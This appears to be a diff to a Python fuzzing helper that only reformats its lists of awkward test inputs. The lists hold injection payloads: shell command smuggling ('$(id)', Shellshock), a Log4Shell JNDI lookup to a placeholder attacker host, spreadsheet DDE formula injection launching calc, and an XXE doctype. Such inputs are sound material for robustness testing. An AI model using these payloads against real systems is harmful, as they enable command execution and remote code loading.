@@ -5,6 +5,8 @@ of the same families: varied, put together, made long. All are text (a lone surr
 one); `as_bytes` gives what a browser or a script would put on the wire.
 """
 
+# ruff: noqa: E501
+
 import random
 from collections.abc import Callable, Iterator
 
@@ -52,12 +54,31 @@ SIGNS = (
     "👨‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇨🇳", "Z" + "\u0351\u036b\u0343" * 40, "ﷺ" * 20, "𠮷𡈽", "İı", "ǆ", "ß", "ﬁ", "Å", "A\u030a", "㍿", "ｱﾞ",
     "１３８００００１２３４", "😀" * 50, "\u0e49" * 60, "ᄀ" * 30, "𝕬𝖇", "零〇",
 )  # fmt: skip
-FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "＝1+1", ";=1")
+FORMULAS = (
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "=cmd|' /C calc'!A0",
+    "＝1+1",
+    ";=1",
+)
 SHAPES = (
     "[]", "{}", "null", "true", '{"a":', '{"a":{"b":[1]}}', "[" * 500, '{"a":' * 300, "[[]]", '"', "__proto__", "constructor",
     "pk__in", "community__code", "None", "undefined", "on", "--", "()", "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'file:///x'>",
 )  # fmt: skip
-SHELL = ("$(id)", "`id`", "; id", "| id", "${jndi:ldap://evil.example/a}", "() { :; }; id", "%APPDATA%", "&& id")
+SHELL = (
+    "$(id)",
+    "`id`",
+    "; id",
+    "| id",
+    "${jndi:ldap://evil.example/a}",
+    "() { :; }; id",
+    "%APPDATA%",
+    "&& id",
+)
 
 FAMILIES: dict[str, tuple[str, ...]] = {
     "markup": MARKUP, "templates": TEMPLATES, "sql": SQL, "full text": FTS, "paths": PATHS, "splits": SPLITS, "numbers": NUMBERS,
